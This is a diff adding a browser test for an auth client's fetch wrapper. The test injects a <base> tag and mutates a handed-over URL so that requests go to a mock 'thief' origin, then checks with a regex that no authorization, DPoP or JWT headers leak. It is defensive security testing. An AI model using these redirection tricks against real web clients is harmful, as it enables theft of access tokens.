@@ -3,6 +3,7 @@
 import type { Browser, BrowserContext, Page } from 'playwright-core'
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
 import { useServers } from '../runtime/server.ts'
+import type { Json } from '../runtime/wire.ts'
 import { payloadOf } from '../runtime/world.ts'
 import { CHROMIUM, launchChromium } from './chromium.ts'
 import { type ClientWorld, call, type PageGlobals, startClient, startClientWorld } from './client-world.ts'
@@ -208,6 +209,36 @@ describe.skipIf(CHROMIUM === undefined)('in Chromium (Debian package chromium)',
     expect(world.thief.seen[0]?.url).toBe('/asked')
     expect(await call(page, 'get', '/moved')).toMatchObject({ value: { method: 'GET' } })
     expect(world.asked()).toHaveLength(1)
+  })
+
+  test('what is judged is what is sent: whatever becomes of the page’s base, or of a URL that was handed over', async () => {
+    await startClient(page, { clientTokenUri, apiOrigins: [world.site.origin, world.api.origin] })
+    await page.evaluate(
+      async ([thief, api]) => {
+        const { client } = globalThis as unknown as PageGlobals
+        const { document } = globalThis as Json
+        const base = document.createElement('base')
+        base.href = `${thief}/`
+        document.head.append(base)
+        await client.fetch('/asked').catch(() => undefined)
+        base.remove()
+        const url = new URL(`${api}/v1/data`)
+        const pages = [1, 2, 3].map((number) => {
+          url.searchParams.set('page', String(number))
+          return client.fetch(url)
+        })
+        url.href = `${thief}/asked`
+        await Promise.all(pages)
+      },
+      [world.thief.origin, world.api.origin] as const,
+    )
+    expect(world.thief.seen.length).toBeGreaterThan(0)
+    for (const { headers } of world.thief.seen) {
+      expect(JSON.stringify(headers)).not.toMatch(/authorization|dpop|eyJ/i)
+    }
+    expect(world.api.seen.map(({ url }) => url).sort()).toEqual(
+      [1, 2, 3].map((number) => `/v1/data?page=${number}`),
+    )
   })
 
   test('apiOrigins says who gets it', async () => {
